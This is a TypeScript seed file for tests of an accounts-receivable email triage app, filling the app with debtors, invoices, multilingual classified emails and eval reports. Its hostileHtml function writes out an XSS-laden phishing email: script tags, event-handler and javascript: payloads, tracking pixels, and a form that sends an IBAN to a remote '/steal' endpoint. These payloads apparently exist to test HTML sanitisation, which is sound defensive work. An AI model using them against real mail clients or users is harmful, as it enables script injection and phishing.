import type { AppContext } from "../../../server/src/context.ts";
import { company, evalRuns } from "../../../server/src/db/schema.ts";
import { prepareActions } from "../../../server/src/modules/drafts/prepare-actions.ts";
import { seedInbox, type SeedMessage } from "../../helpers/seed-inbox.ts";

const ago = (days: number, hours = 0) => new Date(Date.now() - days * 86_400_000 - hours * 3_600_000);
const iso = (days: number) => ago(days).toISOString().slice(0, 10);

/** A page of a hostile email: scripts, handlers, remote images, CSS tricks, forms. */
export function hostileHtml(remoteHost: string): string {
  return `
<style>body{background:url(${remoteHost}/css-bg.png)} .x{position:fixed;top:0;left:0;width:100%;height:100%}</style>
<script>window.parent.__pwned = 1; window.top.__pwned = 1; alert("xss")</script>
<p onmouseover="window.top.__pwned=2">Dear customer, please find the <b>payment details</b> below.</p>
<img src="${remoteHost}/track.gif?id=42" width="1" height="1">
<img src="x" onerror="window.top.__pwned=3">
<svg onload="window.top.__pwned=4"><circle r="5"/></svg>
<iframe src="${remoteHost}/frame.html"></iframe>
<a href="javascript:window.top.__pwned=5">Click to confirm</a>
<form action="${remoteHost}/steal"><input name="iban" value="BE00"><button>Send</button></form>
<div style="background-image:url(${remoteHost}/div-bg.png);position:fixed">Overlay</div>
<object data="${remoteHost}/x.swf"></object>
<meta http-equiv="refresh" content="0;url=${remoteHost}/redirect">
<p style="color:#b42318">Invoice F2025-0042 is now overdue.</p>`;
}

/** Debtors, invoices and a realistic mix of classified mail in four languages. */
export async function seedDemo(ctx: AppContext, opts: { remoteHost?: string } = {}) {
  const messages: SeedMessage[] = [
    { subject: "Betaling factuur F2025-0011 volgende week", from: "boekhouding@bakkerij-jansen.nl", fromName: "Anja de Vries", text: "Goedemiddag,\n\nWij betalen factuur F2025-0011 volgende week vrijdag.\n\nMet vriendelijke groet,\nAnja", intent: "payment_promise", confidence: 0.93, debtor: "C1001", invoices: ["F2025-0011"], language: "nl", date: ago(0, 1), mailbox: "ar" },
    { subject: "Contestation facture F2025-0020", from: "compta@boulangerie-martin.fr", fromName: "Sophie Martin", text: "Bonjour,\n\nNous contestons le prix unitaire de la facture F2025-0020 : 12,50 € au lieu de 11,00 € convenus.\n\nCordialement", intent: "dispute", confidence: 0.88, debtor: "C1002", invoices: ["F2025-0020"], language: "fr", date: ago(0, 3), mailbox: "ar" },
    { subject: "Question about our balance", from: "ap@unknown-trading.co.uk", fromName: "Tom Baker", text: "Hi, could you tell us what our outstanding balance is? We recently changed our accounting system.", intent: "question", confidence: 0.52, debtor: null, candidates: ["C1004", "C1001"], language: "en", date: ago(0, 5), mailbox: "ar", evidence: [{ step: "domain", detail: "unknown-trading.co.uk is not a known debtor domain", weight: 0 }, { step: "similarity", detail: "earlier mail of C1004 is similar", weight: 0.31 }] },
    { subject: "Rechnungskopie RE F2025-0031", from: "buchhaltung@mueller-gmbh.de", fromName: "Klaus Müller", text: "Sehr geehrte Damen und Herren,\n\nbitte senden Sie uns eine Kopie der Rechnung F2025-0031.\n\nMit freundlichen Grüßen", intent: "document_request", confidence: 0.91, debtor: "C1003", invoices: ["F2025-0031"], language: "de", date: ago(1, 2), mailbox: "ar" },
    { subject: "Faillissement Bouwbedrijf Peeters BV", from: "curator@advocaten-claes.be", fromName: "Mr. Claes", text: "Geachte,\n\nBij vonnis van de ondernemingsrechtbank werd het faillissement van Bouwbedrijf Peeters BV uitgesproken. Gelieve uw schuldvordering in te dienen.", intent: "insolvency_notice", confidence: 0.97, debtor: "C1005", language: "nl", date: ago(1, 6), mailbox: "ar" },
    { subject: "Payment advice 2025-06", from: "payables@northwind.example", fromName: "Northwind AP", text: "Please find attached our remittance advice for invoice F2025-0040, paid today.", intent: "payment_notice", confidence: 0.86, debtor: "C1004", invoices: ["F2025-0040"], language: "en", date: ago(2), mailbox: "ar", attachments: [{ filename: "remittance-2025-06.pdf", contentType: "application/pdf", content: Buffer.from("%PDF-1.4 remittance") }] },
    { subject: "Échéancier pour nos factures", from: "compta@boulangerie-martin.fr", fromName: "Sophie Martin", text: "Bonjour, serait-il possible de régler en trois fois ?", intent: "payment_plan_request", confidence: 0.79, debtor: "C1002", language: "fr", date: ago(2, 4), mailbox: "sales" },
    { subject: "Automatic reply: Invoice reminder", from: "anja@bakkerij-jansen.nl", text: "Ik ben afwezig tot 14 juli.", intent: "auto_reply", confidence: 0.99, debtor: "C1001", language: "nl", date: ago(3), mailbox: "ar" },
    { subject: "Undeliverable: Payment reminder", from: "mailer-daemon@mx.northwind.example", text: "550 5.1.1 user unknown: old-ap@northwind.example", intent: "bounce", confidence: 0.99, debtor: "C1004", language: "en", date: ago(3, 5), mailbox: "ar" },
    { subject: "Nieuw factuuradres", from: "boekhouding@bakkerij-jansen.nl", text: "Graag vanaf nu facturen naar facturen@bakkerij-jansen.nl sturen.", intent: "account_update", confidence: 0.74, debtor: "C1001", language: "nl", date: ago(4), mailbox: "ar" },
    { subject: "Spring sale -30%", from: "newsletter@office-supplies.example", text: "Huge discounts on paper and toner!", intent: "other", confidence: 0.95, debtor: null, language: "en", date: ago(5), mailbox: "sales" },
    { subject: "Re: Contestation facture F2025-0020", from: "compta@boulangerie-martin.fr", text: "Merci pour votre retour rapide.", intent: "question", confidence: 0.45, debtor: "C1002", language: "fr", date: ago(6), triage: "done", mailbox: "ar" },
    { subject: "Paid invoice F2025-0012", from: "boekhouding@bakkerij-jansen.nl", text: "Betaald.", intent: "payment_notice", confidence: 0.9, debtor: "C1001", language: "nl", date: ago(8), triage: "done", mailbox: "ar" },
  ];
  if (opts.remoteHost) {
    messages.push({
      subject: "Urgent: confirm your bank details",
      from: "billing@phish.example",
      fromName: "Billing Department",
      text: "Dear customer, please find the payment details below.",
      html: hostileHtml(opts.remoteHost),
      intent: "question",
      confidence: 0.41,
      debtor: null,
      language: "en",
      date: ago(0, 0.5),
      mailbox: "ar",
    });
  }
  await ctx.db.insert(company).values({ name: "Acme Supplies BV", domains: ["acme.test"], arMailbox: "ar@acme.test" });
  const seeded = await seedInbox(ctx, {
    debtors: [
      { number: "C1001", name: "Bakkerij Jansen BV", language: "nl", contacts: ["boekhouding@bakkerij-jansen.nl"], invoices: [
        { number: "F2025-0011", amount: 1250.0, issueDate: iso(50), dueDate: iso(20) },
        { number: "F2025-0012", amount: 310.5, open: 0, issueDate: iso(40), dueDate: iso(10) },
        { number: "F2025-0013", amount: 845.2, issueDate: iso(20), dueDate: iso(-10) },
      ] },
      { number: "C1002", name: "Boulangerie Martin SARL", language: "fr", contacts: ["compta@boulangerie-martin.fr"], invoices: [
        { number: "F2025-0020", amount: 2480.0, issueDate: iso(70), dueDate: iso(40) },
        { number: "F2025-0021", amount: 660.0, issueDate: iso(100), dueDate: iso(95) },
      ] },
      { number: "C1003", name: "Müller GmbH", language: "de", contacts: ["buchhaltung@mueller-gmbh.de"], invoices: [{ number: "F2025-0031", amount: 3900.0, issueDate: iso(30), dueDate: iso(0) }] },
      { number: "C1004", name: "Northwind Traders Ltd", language: "en", contacts: ["payables@northwind.example"], invoices: [
        { number: "F2025-0040", amount: 1999.99, issueDate: iso(35), dueDate: iso(5) },
        { number: "F2025-0042", amount: 420.0, issueDate: iso(15), dueDate: iso(-15) },
      ] },
      { number: "C1005", name: "Bouwbedrijf Peeters BV", language: "nl", insolvent: true, contacts: ["info@peeters-bouw.be"], invoices: [{ number: "F2025-0050", amount: 15400.0, issueDate: iso(120), dueDate: iso(90) }] },
    ],
    messages,
  });
  // Two stored eval runs, as `npm run eval` would leave them, for the manager's table, chart and comparison.
  const report = (acc: number, f1: number, routing: number, wrong: number) => ({
    set: "seed-test", emails: 210,
    intent: { accuracy: acc, macroF1: f1, perIntent: Object.fromEntries(["dispute", "payment_promise", "question", "bounce"].map((k, i) => [k, { precision: acc - i * 0.02, recall: acc - i * 0.01, f1: f1 - i * 0.02, support: 20 + i }])) },
    routing: { accuracy: routing, wrongAssignmentRate: wrong, unassignedRate: 1 - routing - wrong },
    invoices: { precision: 0.99, recall: 0.96 }, language: { accuracy: 0.99 },
    byLanguage: { nl: { intentAccuracy: acc, macroF1: f1, routingAccuracy: routing, emails: 60 }, fr: { intentAccuracy: acc - 0.02, macroF1: f1 - 0.02, routingAccuracy: routing, emails: 50 } },
    cost: { msPerEmail: { p50: 4.1, p95: 11.8 }, llmCalls: 0, tokens: 0 },
    config: { embedder: "hashing-384", llm: null, classifier: "local-1" },
  });
  await ctx.db.insert(evalRuns).values([
    { setName: "seed-test", emails: 210, report: report(0.89, 0.86, 0.93, 0.02), createdAt: ago(7) },
    { setName: "seed-test", emails: 210, report: report(0.94, 0.92, 0.96, 0.008), createdAt: ago(1) },
  ]);
  // What the drafts module prepares for each classified email: drafts, disputes, promises, plans.
  for (const messageId of seeded.messageIds) await prepareActions({ ctx, input: { messageId } });
  return seeded;
}
